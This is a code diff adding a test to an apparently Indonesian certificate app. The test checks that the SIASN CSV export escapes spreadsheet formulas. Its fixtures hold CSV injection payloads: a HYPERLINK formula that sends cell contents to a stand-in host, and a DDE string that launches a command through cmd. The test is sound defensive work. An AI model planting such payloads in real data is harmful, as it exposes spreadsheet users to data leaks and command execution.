@@ -169,3 +169,20 @@ def test_verify_unknown_code(client):
         assert response.status_code == 404
         assert "Sertifikat tidak valid / tidak ditemukan" in page
         assert "Siti Nur’aini" not in page
+
+
+def test_the_siasn_csv_carries_no_formula(client):
+    me = make_user('=HYPERLINK("http://x.test/?"&A1;"Klik")', nip=NIP)
+    make_certificate(me, title="Rahma;=2+5+cmd|' /C calc'!A0")
+    db.session.commit()
+    login(client, me)
+    response = client.get("/sertifikat/siasn.csv")
+    assert response.headers["Cache-Control"].startswith("no-store")
+    for separator in (",", ";"):
+        text = response.data.decode("utf-8-sig")
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
+        assert not [c for c in cells if c.strip(' "').startswith(("=", "+", "@"))]
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert rows[1][0] == NIP  # the NIP itself is untouched, all 18 digits
+    assert rows[1][1] == '\'=HYPERLINK("http://x.test/?"&A1;"Klik")'
+    assert rows[1][2] == "Rahma;'=2+5+cmd|' /C calc'!A0"
